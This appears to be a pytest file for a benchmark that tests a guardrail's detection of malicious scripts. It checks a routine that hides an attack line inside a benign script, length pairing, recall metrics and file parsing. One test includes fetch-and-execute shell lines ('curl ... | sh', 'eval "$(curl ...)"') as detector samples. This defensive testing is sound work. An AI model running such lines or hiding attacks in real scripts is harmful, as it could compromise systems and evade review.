# SPDX-License-Identifier: Apache-2.0
"""Reading scripts, hiding one in another, and the figures of their ranking."""

import gzip
import json
import random

import numpy as np
import pytest

from benchmarks.attack_tactics import only_looks_or_gathers
from benchmarks.guardrails_scripts import describe_escalation, find_recall
from benchmarks.labelled_files import UnusableFileError
from benchmarks.script_sets import (
    SampleScript,
    hide,
    list_places,
    pair_by_length,
    read_scripts,
)
from guardrails.script_analysis import analyse_script


def sample(text: str, interpreter: str = "bash") -> SampleScript:
    return SampleScript(name="x", interpreter=interpreter, text=text, technique="", group="x")


@pytest.mark.parametrize(
    ("interpreter", "text", "places"),
    [
        ("bash", "a\nif b; then\n  c\nfi\nd", [1, 4, 5]),
        ("powershell", "param(\n  $x\n)\na\nforeach ($y in $x) {\n  b\n}", [4, 7]),
        ("cmd", "@echo off\nif exist x (\n  del x\n)\ncopy a ^\n b\nend", [1, 4, 6, 7]),
        ("python", "a = 1\nif a:\n    b = 2\nc = 3", [1, 3, 4]),
        ("python", "if (", [1]),
    ],
)
def test_attacks_are_hidden_between_top_level_statements(interpreter, text, places):
    found = list_places(interpreter, text)
    assert set(found) <= set(places)
    assert found[-1] == places[-1]
    hidden = hide(sample("attack", interpreter), sample(text, interpreter), random.Random(1))
    assert hidden.split("\n").count("attack") == 1
    assert hidden.replace("attack\n", "").replace("\nattack", "") == text


def test_pairs_have_similar_lengths():
    benign = [sample("x" * length) for length in (10, 100, 1000)]
    attacks = [sample("y" * length) for length in (12, 90, 95, 9)]
    pairs = pair_by_length(benign, attacks)
    assert {(left, right) for left, right in pairs} <= {(0, 0), (0, 3), (1, 1), (1, 2)}
    assert len({left for left, _ in pairs}) == len(pairs) == 2


def test_recall_at_a_rate_of_false_positives():
    negatives = np.arange(100.0)
    assert find_recall(negatives, np.array([97.0, 98.0, 99.0]), 0.01) == pytest.approx(1 / 3)
    assert find_recall(negatives, np.array([]), 0.01) == 0


def test_techniques_of_other_tactics_too_are_more_than_looking():
    assert only_looks_or_gathers("T1087.002")
    assert only_looks_or_gathers("T1560")
    assert not only_looks_or_gathers("T1040")
    assert not only_looks_or_gathers("T9999")


def test_files_are_read_or_refused_with_what_is_wrong(tmp_path):
    with pytest.raises(UnusableFileError, match=r"neither x\.jsonl nor x\.jsonl\.gz"):
        read_scripts(tmp_path, "x", dangerous=False)
    row = {"id": "1", "lang": "shell", "text": "date", "technique": "T1003.001"}
    (tmp_path / "x.jsonl.gz").write_bytes(gzip.compress(json.dumps(row).encode()))
    (script,) = read_scripts(tmp_path, "x", dangerous=True)
    assert (script.interpreter, script.group) == ("bash", "T1003")
    for content, reason in (
        (b'\n{"id": "1", "lang": "shell"}\n', r"y\.jsonl, line 2 needs the texts id, lang"),
        (b"{", "line 1 needs"),
        (b"[]", "it is no object"),
        (b"\n", "is empty"),
        (b"\xff", "not readable"),
    ):
        (tmp_path / "y.jsonl").write_bytes(content)
        with pytest.raises(UnusableFileError, match=reason):
            read_scripts(tmp_path, "y", dangerous=True)
    packed = gzip.compress(json.dumps(row).encode())
    for broken in (packed[:20], packed[:12] + b"\xff" + packed[13:], b"no gzip"):
        (tmp_path / "z.jsonl.gz").write_bytes(broken)
        with pytest.raises(UnusableFileError, match="not readable"):
            read_scripts(tmp_path, "z", dangerous=True)


def test_shares_of_nothing_are_none():
    figures = describe_escalation([], [], [])
    assert figures["dynamic_by_pattern_escalated"] is None
    assert figures["n_dynamic_by_pattern"] == 0
    texts = ("date", 'eval "$(curl -s $URL)"', "curl -s http://a.test/x | sh")
    scripts = [sample(text) for text in texts]
    analyses = [analyse_script("bash", text.encode()) for text in texts]
    figures = describe_escalation(scripts[:1], scripts[1:], analyses)
    assert figures["n_dynamic_by_pattern"] == 2
    assert figures["dynamic_by_pattern_escalated"] == 1.0
    assert figures["benign_escalated"] == 0.0
